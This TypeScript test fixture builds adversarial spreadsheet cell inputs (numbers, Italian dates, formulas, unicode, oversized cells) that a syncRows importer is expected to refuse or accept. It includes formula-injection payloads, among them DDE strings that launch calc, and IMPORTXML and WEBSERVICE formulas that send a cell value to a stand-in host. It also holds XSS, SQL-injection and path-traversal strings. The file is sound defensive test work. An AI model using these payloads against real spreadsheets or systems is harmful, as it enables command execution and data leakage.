/**
 * The cell families of the adversarial corpus: numbers, dates, formulas, unicode and huge cells, each input a cell of
 * a sheet row sent through syncRows. `must` marks inputs whose answer is known: garbage that must be refused, plain
 * values that must be taken; the others may go either way, but never to an internal error or a changed meaning.
 */
export type CellColumn =
  | 'actual'
  | 'target'
  | 'weight'
  | 'note'
  | 'kpi'
  | 'title'
  | 'neutralisationReason'
  | 'unit'
  | 'code'
  | 'responsibleUnit';

export type CellCase = { family: string; column: CellColumn; input: string; must?: 'refused' | 'accepted' };

const numbersValid = [
  '0',
  '1',
  '11',
  '-2',
  '3,25',
  '3,25%',
  '3.25',
  '1.234',
  '1.234,5',
  '1.234.567,891',
  '00012',
  '-0',
  '0,0001',
  '100%',
  '105 €',
  '€ 105',
  '12 gg',
  '0,5%',
  '1000000',
  '99999999999',
  '3,333333333333333',
  '+5',
  '≥ 10',
  '> 10',
  '<= 3',
  '12 ore',
  '45 giorni',
  '7,5 mesi',
  '2 h',
  '20 pratiche',
  '1/2',
  'n.d.',
  'N.D.',
  '-',
  'nd',
  'SI',
  'NO',
  'sì',
  'si',
  'no',
  '  7  ',
  '\t8',
  '9\n',
  '1 000',
  '10.000',
  '10,000',
  '0,1',
  ',5',
  '5,',
  '1,0',
  '1.0',
];
const numbersGarbage = [
  '1e309',
  '-1e309',
  'NaN',
  'Infinity',
  '-Infinity',
  '=1+1',
  '=SUM(A1:A2)',
  '1,2,3',
  '1.2,3.4',
  '1.234,56.7',
  '0x10',
  '1_000',
  '--5',
  '5-',
  '5 5 5',
  'abc',
  'dieci',
  '∞',
  'null',
  'undefined',
  '[]',
  '{}',
  '5e-324',
  '1,7976931348623157e308',
  '12\u00002',
  '\u0007',
  '\u001b[31m',
  "=cmd|' /C calc'!A0",
  '@SUM(1)',
  '\ud800',
  '\uffff',
  '1'.repeat(501),
];
const numbersEither = [
  '٣',
  '１２',
  '½',
  '5²',
  '١٢٣',
  '1 234,5',
  '1\u00a0234',
  '12 %',
  '3,25 %',
  '-3,25%',
  '+3,25%',
  '0%',
  '-0%',
  '1e3',
  '1E3',
  '2^10',
  '10/3',
  '(5)',
  '5)',
  '€',
  '%',
  'EUR',
  '12 EUR',
  '1.5.2022',
  'I',
  'IV',
  'x',
  '?',
  '...',
  '5 su 10',
  'circa 5',
  '~5',
  '5±1',
  '5-6',
  '5 / 6',
  '0,000000000000000000001',
  '179769313486231570000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000',
];

const datesValid = [
  '31/12/2022',
  '30/06/2022',
  '1/7/2022',
  '01/07/2022',
  'luglio',
  'dicembre 2022',
  '15/08/2022',
  '28/02/2022',
];
const datesGarbage = [
  '31/02/2022',
  '30/02/2022',
  '32/01/2022',
  '00/01/2022',
  '29/02/2022',
  '31/04/2022',
  '31/06/2022',
  '12/13/2022',
  '0/0/0',
  '31/11/2022',
];
const datesEither = [
  '2022-12-31',
  '2022-02-31',
  '31-12-2022',
  '31.12.2022',
  '31/12/22',
  '31/12/1900',
  '31/12/2099',
  '31/12/9999',
  '1/1/1',
  'entro luglio',
  'fine anno',
  'gennaio',
  'febbraio 2023',
  'Luglio',
  'LUGLIO',
  'lug',
  'Q3',
  'II semestre',
  '31 dicembre 2022',
  '31 dic 2022',
  '2022',
  '12/2022',
  '06/2022',
  '24/12',
  'ieri',
  'oggi',
  '31/12/2022 23:59',
  '2022-12-31T00:00:00Z',
  'T+30',
  '30 giorni',
  '45510',
  '44926',
  '29/02/2024',
  '0',
  '-1',
  '31/12/2022 e 30/6/2023',
  '30/6',
  '31/12',
  'scadenza',
  'monitoraggio',
];

const formulaPayloads = [
  '=1+1',
  '=HYPERLINK("http://x","click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  "=cmd|'/C notepad'!A1",
  '+1',
  '-1+1',
  '@x',
  '=',
  '+',
  '@',
  '-=1',
  '==1',
  '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
  '=WEBSERVICE("http://x")',
];
// a zero-width space before "=" makes the cell text for a spreadsheet too: not a formula, so it may be taken
const formulaSafe = [
  '\u200b=1+1 (testo)',
  '- voce di elenco',
  '-',
  'a=1',
  'prezzo + IVA',
  'mail@esempio.it',
  '1+1',
  'Nota: =1 non è una formula',
  '(=1)',
];

const unicodeCases: Array<[string, 'refused' | 'accepted' | undefined]> = [
  ['Citta\u0300', 'accepted'],
  ['Città', 'accepted'],
  ['📈 grafico', 'accepted'],
  ['👩‍👩‍👧‍👦', 'accepted'],
  ['\u202eRTL override', undefined],
  ['\u200fRLM', undefined],
  ['zero\u200bwidth', undefined],
  ['\ufeffBOM', undefined],
  ['soft\u00adhyphen', undefined],
  ['NUL\u0000inside', 'refused'],
  ['bell\u0007', 'refused'],
  ['esc\u001b', 'refused'],
  ['\u0001', 'refused'],
  ['del\u007f', undefined],
  ['lone \ud800 high', 'refused'],
  ['lone \udc00 low', 'refused'],
  ['\ufffe', 'refused'],
  ['\uffff', 'refused'],
  ['tab\tinside', 'accepted'],
  ['line\nbreak', 'accepted'],
  ['crlf\r\nbreak', 'accepted'],
  ['Ünïcödé ñ ß', 'accepted'],
  ['日本語', 'accepted'],
  ['العربية', 'accepted'],
  ['עברית', 'accepted'],
  ['Ελληνικά', 'accepted'],
  ['кириллица', 'accepted'],
  ['𝕏 math', 'accepted'],
  ['\u0085 NEL', undefined],
  ['\u2028 LS', undefined],
  ['\u2029 PS', undefined],
  ['ﬁ ligature', 'accepted'],
  ['Ａ fullwidth', 'accepted'],
  ['<script>alert(1)</script>', 'accepted'],
  ["' OR 1=1 --", 'accepted'],
  ['"; DROP TABLE indicator; --', 'accepted'],
  ['${7*7}', 'accepted'],
  ['{{7*7}}', 'accepted'],
  ['%s%s%s%n', 'accepted'],
  ['../../etc/passwd', 'accepted'],
  ['\\\\server\\share', 'accepted'],
  [']]><x/>', 'accepted'],
  ['&amp;&lt;', 'accepted'],
  ['\u0301 leading combining', 'accepted'],
  ['e\u0301\u0301\u0301 stacked', 'accepted'],
  ['Z̷̢̛a̴l̸g̷o̵', 'accepted'],
  ['   ', undefined],
  ['\u3000 ideographic space', 'accepted'],
];

const hugeCases: Array<[CellColumn, number, 'refused' | 'accepted']> = [
  ['note', 4000, 'accepted'],
  ['note', 4001, 'refused'],
  ['note', 100_000, 'refused'],
  ['note', 1_000_000, 'refused'],
  ['kpi', 4000, 'accepted'],
  ['kpi', 4001, 'refused'],
  ['title', 4000, 'accepted'],
  ['title', 4001, 'refused'],
  ['neutralisationReason', 4001, 'refused'],
  ['actual', 501, 'refused'],
  ['actual', 100_000, 'refused'],
  ['target', 501, 'refused'],
  ['weight', 501, 'refused'],
  ['code', 50, 'accepted'],
  ['code', 51, 'refused'],
  ['code', 10_000, 'refused'],
  ['responsibleUnit', 300, 'accepted'],
  ['responsibleUnit', 301, 'refused'],
  ['unit', 4001, 'refused'],
  ['note', 3999, 'accepted'],
];

export function cellCases(): CellCase[] {
  const out: CellCase[] = [];
  for (const input of numbersValid) out.push({ family: 'numbers', column: 'actual', input });
  for (const input of numbersGarbage) out.push({ family: 'numbers', column: 'actual', input, must: 'refused' });
  for (const input of numbersEither) out.push({ family: 'numbers', column: 'actual', input });
  for (const input of ['25', '25%', '33,33', '0', '100', '0,5'])
    out.push({ family: 'numbers', column: 'weight', input, must: 'accepted' });
  for (const input of ['-1', '1001', 'abc', '1e309', '=1', '1,2,3', 'NaN', '5%%'])
    out.push({ family: 'numbers', column: 'weight', input, must: 'refused' });
  for (const input of datesValid) out.push({ family: 'dates', column: 'target', input, must: 'accepted' });
  for (const input of datesGarbage) out.push({ family: 'dates', column: 'target', input, must: 'refused' });
  for (const input of datesEither) out.push({ family: 'dates', column: 'target', input });
  for (const column of ['note', 'kpi', 'title', 'neutralisationReason'] as const) {
    for (const input of formulaPayloads) out.push({ family: 'formulas', column, input, must: 'refused' });
    for (const input of formulaSafe) out.push({ family: 'formulas', column, input, must: 'accepted' });
  }
  for (const input of ['=1+1', '=HYPERLINK("x")', '@SUM(1)', "+cmd|' /C calc'!A0"])
    for (const column of ['actual', 'target', 'unit', 'code', 'responsibleUnit'] as const)
      out.push({ family: 'formulas', column, input, must: 'refused' });
  for (const column of ['note', 'title'] as const)
    for (const [input, must] of unicodeCases) out.push({ family: 'unicode', column, input, must });
  for (const input of ['1.1.9\u200b', '１.１.９', '1.1.9\u200f', '1.1.а', '1.1.9\ufeff', '1.1.9\u00ad', 'Ⅸ.1'])
    out.push({
      family: 'unicode',
      column: 'code',
      input,
      must: input === '１.１.９' || input === 'Ⅸ.1' ? undefined : 'refused',
    });
  for (const [column, length, must] of hugeCases)
    out.push({
      family: 'huge cells',
      column,
      input: column === 'code' ? `C${'1'.repeat(length - 1)}` : 'x'.repeat(length),
      must,
    });
  return out;
}
